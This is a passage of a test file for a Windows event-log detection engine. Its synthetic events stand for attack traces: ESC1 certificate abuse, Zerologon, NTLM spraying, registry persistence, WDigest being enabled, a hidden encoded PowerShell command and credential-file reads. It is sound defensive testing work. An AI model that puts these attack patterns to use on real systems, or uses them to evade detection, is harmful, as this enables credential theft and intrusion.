// The built-in rules of the Windows channel folders (security, system, application, smbclient ...): each family fires on
// the event it is written for, with its tactic and level, and a near miss of the same event id does not.
import { describe, expect, it } from 'vitest';
import path from 'node:path';
import type { JsonRecord } from '../event.js';
import { analyzeEvents } from '../analysis/analyze.js';
import { attackLookup } from '../../core/attack/lookup.js';
import { builtinHits, builtinRules, windowsEvent, type Ev } from './builtin.fixture.js';
import { loadSigmaRules, shippedRulesDir } from './index.js';

const builtin = builtinRules();

const win = (t: number, channel: string, provider: string, eventId: number, data: JsonRecord, host = 'DC01'): Ev => windowsEvent(t, channel, provider, eventId, data, host);
const sec = (t: number, eventId: number, data: JsonRecord): Ev => win(t, 'Security', 'Microsoft-Windows-Security-Auditing', eventId, data);

const hits = builtinHits;
const titlesOf = (e: Ev): string[] => [...hits([e]).keys()];

describe('built-in channel rules', () => {
  it('load without problems', () => {
    expect(builtin.skipped).toEqual([]);
    expect(builtin.inapplicable).toEqual([]);
  });

  it('certificate services: a SAN naming a user principal is high, other SANs low, a plain request nothing; PKINIT TGTs informational', () => {
    const UPN = 'Certificate Requested With A User Principal In The Subject Alternative Name';
    const SAN = 'Certificate Requested With A Subject Alternative Name Attribute';
    const esc1 = sec(1, 4887, { RequestId: '19', Requester: 'CORP\\bob', Attributes: 'CertificateTemplate:VulnTemplate\nSAN:upn=administrator@corp.example', Disposition: '3', Subject: 'CN=bob' });
    expect(hits([esc1]).get(UPN)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'credential-access'] });
    expect(titlesOf(esc1)).not.toContain(SAN);
    const web = sec(2, 4886, { RequestId: '20', Requester: 'CORP\\websrv', Attributes: 'CertificateTemplate:WebServer\nSAN:dns=www.corp.example' });
    expect(hits([web]).get(SAN)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titlesOf(web)).not.toContain(UPN);
    expect(titlesOf(sec(3, 4887, { RequestId: '21', Requester: 'CORP\\bob', Attributes: 'CertificateTemplate:User', Disposition: '3' }))).toEqual([]);
    const PKINIT = 'Kerberos TGT Requested With A Certificate (PKINIT)';
    const tgt = (t: number, issuer: string): Ev =>
      sec(t, 4768, { TargetUserName: 'administrator', ServiceName: 'krbtgt', Status: '0x0', PreAuthType: issuer === '' ? '2' : '16', TicketEncryptionType: '0x12', IpAddress: '::ffff:10.0.0.30', CertIssuerName: issuer });
    expect(hits([tgt(4, 'corp-DC01-CA')]).get(PKINIT)).toEqual({ level: 'informational', tactics: ['credential-access'] });
    expect(titlesOf(tgt(5, ''))).not.toContain(PKINIT);
    // Older DCs and JSON exports leave the certificate fields out: the pre-authentication type decides.
    expect(titlesOf(sec(6, 4768, { TargetUserName: 'bob', ServiceName: 'krbtgt', Status: '0x0', PreAuthType: '2', TicketEncryptionType: '0x12' }))).toEqual([]);
  });

  it('certificate templates and CA permissions: template flags changed in the directory (medium), template updates at the CA (low), CA permissions (medium)', () => {
    const tpl = (t: number, attribute: string, objectClass = 'pKICertificateTemplate'): Ev =>
      sec(t, 5136, { SubjectUserName: 'alice', ObjectDN: 'CN=User2,CN=Certificate Templates,CN=Public Key Services,CN=Services,CN=Configuration,DC=corp,DC=example', ObjectClass: objectClass, AttributeLDAPDisplayName: attribute, AttributeValue: '1', OperationType: '%%14674' });
    const CHANGED = 'Certificate Template Changed In The Directory';
    expect(hits([tpl(1, 'msPKI-Certificate-Name-Flag')]).get(CHANGED)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'credential-access'] });
    expect(titlesOf(tpl(2, 'displayName'))).not.toContain(CHANGED);
    expect(titlesOf(tpl(3, 'msPKI-Certificate-Name-Flag', 'user'))).not.toContain(CHANGED);
    expect(hits([sec(4, 4899, { TemplateInternalName: 'User2', TemplateContent: 'msPKI-Certificate-Name-Flag = 0x1' })]).get('Certificate Services Template Updated')?.level).toBe('low');
    expect(hits([sec(5, 4882, { NewSecuritySettings: 'Allow\tCORP\\bob\tCA Administrator' })]).get('Certificate Authority Permissions Changed')?.level).toBe('medium');
  });

  it('Kerberos TGTs with RC4 or DES (overpass-the-hash, low); AES TGTs and RC4 service tickets are not this rule', () => {
    const WEAK = 'Kerberos TGT Issued With RC4 Or DES Encryption';
    const tgt = (t: number, type: string, service = 'krbtgt', id = 4768): Ev =>
      sec(t, id, { TargetUserName: 'alice', ServiceName: service, Status: '0x0', PreAuthType: '2', TicketEncryptionType: type, IpAddress: '::ffff:10.0.0.30' });
    expect(hits([tgt(1, '0x17')]).get(WEAK)).toEqual({ level: 'low', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(tgt(2, '0x3'))).toContain(WEAK);
    expect(titlesOf(tgt(3, '0x12'))).not.toContain(WEAK);
    expect(titlesOf(tgt(4, '0x17', 'sqlsvc', 4769))).not.toContain(WEAK);
  });

  it('NTLM validation failures: informational each, ten accounts from one workstation in ten minutes a high burst; nine are not', () => {
    const fail = (t: number, user: string, workstation = 'KALI'): Ev =>
      sec(t, 4776, { PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', TargetUserName: user, Workstation: workstation, Status: '0xc000006a' });
    const SPRAY = 'NTLM Credential Validation Failures For Many Accounts From One Workstation';
    const h = hits(Array.from({ length: 12 }, (_, i) => fail(i * 10, `user${i}`)));
    expect(h.get(SPRAY)).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(h.get('NTLM Credential Validation Failed')?.level).toBe('informational');
    expect(hits(Array.from({ length: 9 }, (_, i) => fail(i * 10, `user${i}`))).has(SPRAY)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => fail(i * 10, `user${i}`, `WS${i}`))).has(SPRAY)).toBe(false);
    expect(titlesOf(sec(200, 4776, { TargetUserName: 'bob', Workstation: 'WS01', Status: '0x0' }))).toEqual([]);
  });

  it('security services stopped or crashed (System 7036/7031/7034, low); other services and starts are not', () => {
    const STOP = 'Security Service Stopped';
    const scm = (t: number, id: number, name: string, state = 'stopped'): Ev => win(t, 'System', 'Service Control Manager', id, { param1: name, param2: state });
    expect(hits([scm(1, 7036, 'Microsoft Defender Antivirus Service')]).get(STOP)).toEqual({ level: 'low', tactics: ['defense-impairment', 'impact'] });
    expect(titlesOf(scm(2, 7034, 'Sysmon64', '1'))).toContain(STOP);
    expect(titlesOf(scm(3, 7036, 'Microsoft Defender Antivirus Service', 'running'))).not.toContain(STOP);
    expect(titlesOf(scm(4, 7036, 'Print Spooler'))).not.toContain(STOP);
  });

  it('Zerologon traces: a computer account changed by ANONYMOUS LOGON (medium) and Netlogon 5805 (informational); a machine changing itself is not', () => {
    const ANON = 'Computer Account Changed By An Anonymous Logon';
    // The subject's name is localized on non-English DCs; the rule reads the SID.
    const h = hits([
      sec(1, 4742, { TargetUserName: 'DC01$', SubjectUserSid: 'S-1-5-7', SubjectUserName: 'АНОНИМНЫЙ ВХОД', SubjectDomainName: 'NT AUTHORITY', PasswordLastSet: '28.06.2026 17:40:58' }),
      win(2, 'System', 'NETLOGON', 5805, { param1: 'DC01', param2: '%%5' }),
    ]);
    expect(h.get(ANON)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'lateral-movement'] });
    expect(h.get('Netlogon Session Setup Failed To Authenticate')).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(titlesOf(sec(3, 4742, { TargetUserName: 'WS01$', SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', PasswordLastSet: '28.06.2026 17:40:58' }))).not.toContain(ANON);
    expect(titlesOf(win(4, 'System', 'Service Control Manager', 5805, { param1: 'x' }))).toEqual([]);
  });

  it('a patched controller denying a vulnerable Netlogon channel (5827, 5828) is a Zerologon attempt (medium); another provider\'s 5827 is not', () => {
    const DENIED = 'Vulnerable Netlogon Secure Channel Connection Denied (Zerologon Attempt)';
    expect(hits([win(1, 'System', 'NETLOGON', 5827, { param1: 'DC02$', param2: 'CORP' })]).get(DENIED)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'lateral-movement'] });
    expect(titlesOf(win(2, 'System', 'NETLOGON', 5828, { param1: 'PARTNER$' }))).toContain(DENIED);
    expect(titlesOf(win(3, 'System', 'Service Control Manager', 5827, { param1: 'x' }))).not.toContain(DENIED);
  });

  it('coerced authentication and relay: the SMB client meeting an Impacket server (high), machine accounts over NTLM from another address (low)', () => {
    const IMPACKET = 'SMB Client Connected To An Impacket SMB Server';
    const smb = (t: number, guid2: string): Ev =>
      win(t, 'Microsoft-Windows-SmbClient/Security', 'Microsoft-Windows-SMBClient', 31012, { Dialect: '514', SecurityMode: '1', Guid: '{4b624565-5849-7159-4651-724e6d4f4a5a}', Dialect2: '514', Guid2: guid2 });
    expect(hits([smb(1, '{41414141-4141-4141-4141-414141414141}')]).get(IMPACKET)).toEqual({ level: 'high', tactics: ['credential-access', 'collection'] });
    expect(titlesOf(smb(2, '{9a1b2c3d-4141-4e5f-8a9b-1c2d3e4f5a6b}'))).toEqual([]);
    const MACHINE = 'Computer Account Network Logon With NTLM From Another Address';
    const logon = (t: number, data: JsonRecord): Ev =>
      sec(t, 4624, { SubjectUserSid: 'S-1-0-0', TargetUserName: 'DC01$', LogonType: 3, LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', LmPackageName: 'NTLM V2', KeyLength: 128, IpAddress: '10.0.0.30', ...data });
    expect(hits([logon(3, {})]).get(MACHINE)).toEqual({ level: 'low', tactics: ['credential-access', 'collection'] });
    expect(titlesOf(logon(4, { LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos', KeyLength: 0 }))).not.toContain(MACHINE);
    expect(titlesOf(logon(5, { IpAddress: '-' }))).not.toContain(MACHINE);
    expect(titlesOf(logon(6, { TargetUserName: 'alice' }))).not.toContain(MACHINE);
  });

  it('NTLM network logons without a session key (Impacket-style clients): named accounts from another address only', () => {
    const NOKEY = 'NTLM Network Logon Without A Session Key';
    const logon = (t: number, data: JsonRecord): Ev =>
      sec(t, 4624, { SubjectUserSid: 'S-1-0-0', TargetUserSid: 'S-1-5-21-1-2-3-1110', TargetUserName: 'alice', LogonType: 3, LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', LmPackageName: 'NTLM V2', KeyLength: 0, IpAddress: '10.0.0.30', ...data });
    expect(hits([logon(1, {})]).get(NOKEY)).toEqual({ level: 'low', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(logon(2, { KeyLength: 128 }))).not.toContain(NOKEY);
    expect(titlesOf(logon(3, { TargetUserSid: 'S-1-5-7', TargetUserName: 'ANONYMOUS LOGON', LmPackageName: 'NTLM V1' }))).not.toContain(NOKEY);
    expect(titlesOf(logon(4, { IpAddress: '127.0.0.1' }))).not.toContain(NOKEY);
  });

  it('security tools and LSASS crashing (Application Error 1000); other programs crashing are not', () => {
    const CRASH = 'Security Tool Or LSASS Crashed';
    const crash = (t: number, app: string): Ev =>
      win(t, 'Application', 'Application Error', 1000, { Data: [app, '10.0.19041.1', '5f1e2d3c', 'ntdll.dll', '10.0.19041.1', '5f1e2d3c', 'c0000005', '0000000000012345'] });
    expect(hits([crash(1, 'Sysmon64.exe')]).get(CRASH)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(crash(2, 'lsass.exe'))).toContain(CRASH);
    expect(titlesOf(crash(3, 'notepad.exe'))).toEqual([]);
  });

  it('registry writes audited by the Security log (4657): auto-start locations (medium), defence-weakening values (high); other keys and harmless values are not', () => {
    const reg = (t: number, key: string, value: string, newValue: string, op = '%%1905'): Ev =>
      sec(t, 4657, { SubjectUserName: 'bob', ObjectName: key, ObjectValueName: value, OperationType: op, NewValue: newValue, ProcessName: 'C:\\Windows\\System32\\reg.exe' });
    const AUTO = 'Registry Auto-Start Location Written (Security 4657)';
    const WEAK = 'Registry Value Weakening A Defence Written (Security 4657)';
    expect(hits([reg(1, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'updater', 'C:\\Users\\Public\\u.exe', '%%1904')]).get(AUTO)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(reg(2, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'C:\\Windows\\System32\\cmd.exe'))).toContain(AUTO);
    expect(titlesOf(reg(3, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', 'DefaultUserName', 'bob'))).toEqual([]);
    expect(titlesOf(reg(4, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'updater', '-', '%%1906'))).toEqual([]);
    expect(hits([reg(5, '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest', 'UseLogonCredential', '1')]).get(WEAK)).toEqual({ level: 'high', tactics: ['defense-impairment', 'credential-access'] });
    expect(titlesOf(reg(6, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', 'EnableLUA', '0'))).toContain(WEAK);
    expect(titlesOf(reg(7, '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System', 'EnableLUA', '1'))).toEqual([]);
    expect(titlesOf(reg(8, '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest', 'UseLogonCredential', '0'))).toEqual([]);
  });

  it('privileges enabled (4703) and auditing settings changed (4907) by programs outside Windows; Windows programs and computer accounts are not', () => {
    const PRIV = 'Sensitive Privilege Enabled By A Program Outside Windows (4703)';
    const priv = (t: number, user: string, program: string, list = 'SeDebugPrivilege'): Ev =>
      sec(t, 4703, { SubjectUserName: user, ProcessName: program, EnabledPrivilegeList: list, DisabledPrivilegeList: '-' });
    expect(hits([priv(1, 'bob', 'C:\\Users\\bob\\Desktop\\tool.exe')]).get(PRIV)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
    expect(titlesOf(priv(2, 'SRV01$', 'C:\\Users\\bob\\Desktop\\tool.exe'))).not.toContain(PRIV);
    expect(titlesOf(priv(3, 'bob', 'C:\\Windows\\System32\\svchost.exe'))).not.toContain(PRIV);
    expect(titlesOf(priv(4, 'bob', 'C:\\Users\\bob\\Desktop\\tool.exe', 'SeChangeNotifyPrivilege'))).not.toContain(PRIV);
    const SACL = 'Object Auditing Settings Changed By A Program Outside Windows';
    const sacl = (t: number, program: string): Ev => sec(t, 4907, { SubjectUserName: 'bob', ObjectType: 'Key', ObjectName: '\\REGISTRY\\MACHINE\\SYSTEM', OldSd: 'S:AI(AU;SAFA;KA;;;WD)', NewSd: 'S:AI', ProcessName: program });
    expect(hits([sacl(5, 'C:\\Users\\bob\\x.exe')]).get(SACL)).toEqual({ level: 'low', tactics: ['defense-impairment'] });
    expect(titlesOf(sacl(6, 'C:\\Windows\\servicing\\TrustedInstaller.exe'))).toEqual([]);
  });

  it('the Remote Registry service started (System 7036, low); stopping it or other services starting is not', () => {
    const RR = 'Remote Registry Service Started';
    const scm = (t: number, name: string, state: string): Ev => win(t, 'System', 'Service Control Manager', 7036, { param1: name, param2: state });
    expect(hits([scm(1, 'Remote Registry', 'running')]).get(RR)).toEqual({ level: 'low', tactics: ['credential-access', 'discovery'] });
    expect(titlesOf(scm(2, 'Remote Registry', 'stopped'))).not.toContain(RR);
    expect(titlesOf(scm(3, 'Print Spooler', 'running'))).not.toContain(RR);
  });

  it('disk images mounted from download, desktop, temp or mail-cache folders (VHDMP, either channel spelling; low); a VM disk elsewhere is not', () => {
    const IMG = 'Disk Image Mounted From A Download Or Mail Folder';
    const vhd = (t: number, channel: string, file: string, id = 12): Ev => win(t, channel, 'Microsoft-Windows-VHDMP', id, { VhdFileName: file }, 'WS01');
    expect(hits([vhd(1, 'Microsoft-Windows-VHDMP-Operational', 'C:\\Users\\bob\\Downloads\\invoice.iso')]).get(IMG)).toEqual({ level: 'low', tactics: ['initial-access', 'stealth', 'defense-impairment'] });
    expect(titlesOf(vhd(2, 'Microsoft-Windows-VHDMP/Operational', 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12\\scan.img', 1))).toContain(IMG);
    expect(titlesOf(vhd(3, 'Microsoft-Windows-VHDMP-Operational', 'D:\\VMs\\disk.vhdx'))).toEqual([]);
  });

  it('Run key commands started at logon (Shell-Core 9707): script hosts and public folders medium, the rest informational', () => {
    const RUN = 'Run Key Command Started At Logon From A Script Host Or Public Folder';
    const run = (t: number, command: string): Ev => win(t, 'Microsoft-Windows-Shell-Core/Operational', 'Microsoft-Windows-Shell-Core', 9707, { Command: command }, 'WS01');
    expect(hits([run(1, 'powershell.exe -w hidden -enc AAAA')]).get(RUN)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(run(2, 'C:\\Users\\Public\\u.exe'))).toContain(RUN);
    expect(titlesOf(run(3, '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'))).toEqual(['Run Key Command Started At Logon']);
  });

  it('WinRM: a shell created here (91) and a session to another host (6), low; a session to localhost is not', () => {
    const winrm = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-WinRM/Operational', 'Microsoft-Windows-WinRM', id, data);
    expect(hits([winrm(1, 91, { resourceUri: 'http://schemas.microsoft.com/powershell/Microsoft.PowerShell', shellId: 'x' })]).get('WinRM Shell Created On This Host')).toEqual({ level: 'low', tactics: ['execution', 'lateral-movement'] });
    const OUT = 'WinRM Session Opened To Another Host';
    expect(hits([winrm(2, 6, { connection: '10.0.0.5/wsman?PSVersion=5.1.17763.1' })]).get(OUT)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(winrm(3, 6, { connection: 'localhost/wsman?PSVersion=5.1.17763.1' }))).toEqual([]);
  });

  it('filtering-platform connections out to implant ports (5156, low) and RDP logons in Restricted Admin mode (low); inbound, other ports and ordinary RDP logons are not', () => {
    const PORT = 'Outbound Connection To A Common Implant Port (WFP 5156)';
    const wfp = (t: number, direction: string, port: number): Ev =>
      sec(t, 5156, { Application: '\\device\\harddiskvolume2\\users\\bob\\x.exe', Direction: direction, SourceAddress: '10.0.0.5', DestAddress: '10.0.0.30', DestPort: port, Protocol: 6 });
    expect(hits([wfp(1, '%%14593', 4444)]).get(PORT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(wfp(2, '%%14592', 4444))).not.toContain(PORT);
    expect(titlesOf(wfp(3, '%%14593', 443))).not.toContain(PORT);
    const RA = 'Remote Desktop Logon In Restricted Admin Mode';
    const rdp = (t: number, mode: string): Ev =>
      sec(t, 4624, { TargetUserName: 'administrator', LogonType: 10, LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', RestrictedAdminMode: mode, IpAddress: '10.0.0.30' });
    expect(hits([rdp(4, '%%1842')]).get(RA)).toEqual({ level: 'low', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(rdp(5, '%%1843'))).not.toContain(RA);
  });

  it('Winsock LSP installs, storage devices and USB mass storage; the catalog reset and other devices are not', () => {
    const LSP = 'Winsock Layered Service Provider Installed (WS2HELP 1)';
    const ws = (t: number, eventId: number): Ev => win(t, 'Microsoft-Windows-Winsock-WS2HELP/Operational', 'Microsoft-Windows-Winsock-WS2HELP', eventId, { LspName: 'Filter LSP', Catalog: '64', Installer: 'C:\\Users\\bob\\lsp.exe', GUID: '{E70F1AA0-AB8B-11CF-8CA3-00805F48A192}', Category: '1001' }, 'WS01');
    expect(hits([ws(1, 1)]).get(LSP)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(ws(2, 4))).not.toContain(LSP);
    const DEV = 'Storage Device Connected (Partition Diagnostic 1006)';
    expect(hits([win(3, 'Microsoft-Windows-Partition/Diagnostic', 'Microsoft-Windows-Partition', 1006, { Model: 'USB DISK', SerialNumber: '0701', BusType: '7' }, 'WS01')]).get(DEV)).toEqual({ level: 'informational', tactics: ['initial-access', 'collection', 'exfiltration'] });
    const PNP = 'USB Mass Storage Device Configured (Kernel-PnP 400/410)';
    const pnp = (t: number, id: string): Ev => win(t, 'Microsoft-Windows-Kernel-PnP/Configuration', 'Microsoft-Windows-Kernel-PnP', 400, { DeviceInstanceId: id, DriverName: 'disk.inf' }, 'WS01');
    expect(hits([pnp(4, 'USBSTOR\\Disk&Ven_Generic&Prod_Flash_Disk&Rev_8.07\\0701&0')]).get(PNP)).toEqual({ level: 'low', tactics: ['initial-access', 'lateral-movement', 'collection', 'exfiltration'] });
    expect(titlesOf(pnp(5, 'USB\\VID_046D&PID_C52B\\5&1'))).not.toContain(PNP);
    // A deleted task is also the clearing of a persistence.
    expect(builtin.rules.find((r) => r.title === 'Scheduled Task Deleted')?.techniques).toContain('T1070.009');
  });


  it('SAM objects opened by a user account (informational, ten in a minute medium), lockouts; computer accounts and few objects are not', () => {
    const SAM = 'SAM Domain, User Or Group Object Opened By A User Account (4661)';
    const BURST = 'Burst Of SAM Objects Opened By One Account';
    const sam = (t: number, user: string, i: number): Ev => sec(t, 4661, { ObjectServer: 'Security Account Manager', ObjectType: 'SAM_USER', ObjectName: `S-1-5-21-1-2-3-${1100 + i}`, SubjectUserName: user, ProcessName: 'C:\\Windows\\System32\\lsass.exe', AccessMask: '0x2d' });
    const h = hits(Array.from({ length: 12 }, (_, i) => sam(i, 'bob', i)));
    expect(h.get(SAM)).toEqual({ level: 'informational', tactics: ['discovery'] });
    expect(h.get(BURST)).toEqual({ level: 'medium', tactics: ['discovery'] });
    expect(hits(Array.from({ length: 12 }, (_, i) => sam(i, 'WS07$', i))).size).toBe(0);
    expect(hits(Array.from({ length: 4 }, (_, i) => sam(i, 'bob', i))).has(BURST)).toBe(false);
    expect(titlesOf(sec(20, 4661, { ObjectServer: 'Security', ObjectType: 'File', ObjectName: 'C:\\x', SubjectUserName: 'bob' }))).not.toContain(SAM);
    expect(hits([sec(21, 4740, { TargetUserName: 'alice', TargetDomainName: 'WS07', SubjectUserName: 'DC01$' })]).get('User Account Locked Out (4740)')).toEqual({ level: 'low', tactics: ['credential-access'] });
  });


  it('services whose program sits directly in the Windows folder (ADMIN$ drops of remote execution tools), System 7045 and Security 4697; System32 and subfolders are not', () => {
    const WIN = 'Service Installed With A Program Directly In The Windows Folder';
    const svc = (t: number, image: string): Ev => win(t, 'System', 'Service Control Manager', 7045, { ServiceName: 'xYzAbCdE', ImagePath: image, ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, 'SRV02');
    expect(hits([svc(1, '%SystemRoot%\\xYzAbCdE.exe')]).get(WIN)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    expect(titlesOf(svc(2, '"C:\\Windows\\updsvc.exe" -service'))).toContain(WIN);
    expect(titlesOf(svc(3, 'C:\\Windows\\System32\\svchost.exe -k netsvcs'))).not.toContain(WIN);
    expect(titlesOf(svc(4, 'C:\\Windows\\Temp\\a.exe'))).not.toContain(WIN);
    expect(titlesOf(svc(6, 'C:\\Windows\\Sysmon64.exe'))).not.toContain(WIN);
    expect(hits([sec(5, 4697, { ServiceName: 'xYzAbCdE', ServiceFileName: '%systemroot%\\xYzAbCdE.exe', SubjectUserName: 'admin' })]).get(`${WIN} (4697)`)?.level).toBe('medium');
  });

  it('DPAPI master keys, Credential Manager files and KeePass databases read by other programs; Windows programs and KeePass itself are not', () => {
    const DPAPI = 'DPAPI Master Key Or Credential Manager File Read By A Program Outside Windows';
    const KDBX = 'Password Manager Database Read By Another Program';
    const read = (t: number, file: string, program: string, id = 4663): Ev =>
      sec(t, id, { SubjectUserName: 'bob', ObjectServer: 'Security', ObjectType: 'File', ObjectName: file, AccessList: '%%4416', AccessMask: '0x1', ProcessName: program });
    const key = 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Protect\\S-1-5-21-1-2-3-1105\\0b7c2d3e-1111-2222-3333-444455556666';
    expect(hits([read(1, key, 'C:\\Users\\bob\\Downloads\\tool.exe')]).get(DPAPI)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(read(2, 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Credentials\\DFBE70A7E5CC19A398EBF1B96859CE5D', 'C:\\ProgramData\\x.exe', 4656))).toContain(DPAPI);
    expect(titlesOf(read(3, key, 'C:\\Windows\\System32\\lsass.exe'))).not.toContain(DPAPI);
    expect(titlesOf(read(4, 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\a.lnk', 'C:\\Users\\bob\\Downloads\\tool.exe'))).toEqual([]);
    expect(hits([read(5, 'C:\\Users\\bob\\Documents\\Database.kdbx', 'C:\\Users\\bob\\Downloads\\tool.exe')]).get(KDBX)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titlesOf(read(6, 'C:\\Users\\bob\\Documents\\Database.kdbx', 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe'))).not.toContain(KDBX);
  });

  it('network logons with administrator privileges from another host (4624 type 3 + 4672, informational) and tasks created in such a session (medium); other sessions and local logons are not', () => {
    const ADMIN = 'Network Logon With Administrator Privileges From Another Host';
    const TASK = 'Scheduled Task Created From A Network Logon Session';
    const logon = (t: number, id: string, data: JsonRecord = {}): Ev =>
      sec(t, 4624, { SubjectUserSid: 'S-1-0-0', TargetUserSid: 'S-1-5-21-1-2-3-1106', TargetUserName: 'itadmin', TargetLogonId: id, LogonType: 3, LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', IpAddress: '10.0.0.30', ...data });
    const special = (t: number, id: string, user = 'itadmin', sid = 'S-1-5-21-1-2-3-1106'): Ev => sec(t, 4672, { SubjectUserSid: sid, SubjectUserName: user, SubjectLogonId: id, PrivilegeList: 'SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege' });
    const task = (t: number, id: string): Ev => sec(t, 4698, { SubjectUserSid: 'S-1-5-21-1-2-3-1106', SubjectUserName: 'itadmin', SubjectLogonId: id, TaskName: '\\Updater', TaskContent: '<Task><Actions><Exec><Command>C:\\Windows\\System32\\notepad.exe</Command></Exec></Actions></Task>' });
    const h = hits([special(1, '0x77aa'), logon(1, '0x77aa'), task(30, '0x77aa')]);
    expect(h.get(ADMIN)).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(h.get(TASK)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    // The base rules stay out of the report; the plain task rule stays in.
    expect(h.get('Scheduled Task Created')?.level).toBe('low');
    expect(h.has('Network Logon Of A User Account From Another Host')).toBe(false);
    expect(h.has('Special Privileges Assigned To A User Account Logon')).toBe(false);
    // Another session, a local logon, a computer account, SYSTEM's privileges: nothing correlated.
    const other = hits([special(40, '0x1'), logon(40, '0x2'), task(41, '0x3')]);
    expect(other.has(ADMIN) || other.has(TASK)).toBe(false);
    expect(hits([special(50, '0x5'), logon(50, '0x5', { IpAddress: '127.0.0.1' }), task(51, '0x5')]).has(TASK)).toBe(false);
    expect(hits([special(60, '0x6', 'WS07$', 'S-1-5-21-1-2-3-1301'), logon(60, '0x6', { TargetUserName: 'WS07$' })]).has(ADMIN)).toBe(false);
    expect(hits([special(70, '0x3e7', 'SYSTEM', 'S-1-5-18'), logon(70, '0x3e7')]).has(ADMIN)).toBe(false);
  });

  it('RDP: authentication refused (RdpCoreTs 140, informational, brute force and RDP; ten from one address in five minutes medium) and sessions disconnected from another address (LSM 24, informational)', () => {
    const FAIL = 'RDP Connection Refused For A Wrong User Name Or Password (RdpCoreTs 140)';
    const BURST = 'Many RDP Authentication Failures From One Address';
    const core = (t: number, ip: string): Ev => win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 140, { IPString: ip });
    const h = hits(Array.from({ length: 12 }, (_, i) => core(i * 10, '10.0.0.30')));
    expect(h.get(BURST)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(h.get(FAIL)).toEqual({ level: 'informational', tactics: ['credential-access', 'lateral-movement'] });
    expect(hits(Array.from({ length: 12 }, (_, i) => core(i * 10, `10.0.0.${i}`))).has(BURST)).toBe(false);
    expect(hits(Array.from({ length: 9 }, (_, i) => core(i * 10, '10.0.0.30'))).has(BURST)).toBe(false);
    const lsm = (t: number, address: string): Ev => win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', 24, { User: 'CORP\\bob', SessionID: '3', Address: address });
    expect(hits([lsm(200, '10.0.0.30')]).get('RDP Session Disconnected From Another Address')).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(titlesOf(lsm(201, 'LOCAL'))).toEqual([]);
  });

  it('kernel drivers installed as services from user-writable folders (7045/4697, high); drivers in System32 and user-mode services there are not this rule', () => {
    const DRV = 'Kernel Driver Service Installed From A User-Writable Folder';
    const svc = (t: number, image: string, type: string): Ev => win(t, 'System', 'Service Control Manager', 7045, { ServiceName: 'rtcore', ImagePath: image, ServiceType: type, StartType: 'demand start', AccountName: '' }, 'WS01');
    expect(hits([svc(1, 'C:\\Users\\bob\\AppData\\Local\\Temp\\RTCore64.sys', 'kernel mode driver')]).get(DRV)).toEqual({ level: 'high', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(svc(2, 'C:\\ProgramData\\gdrv.sys', 'file system driver'))).toContain(DRV);
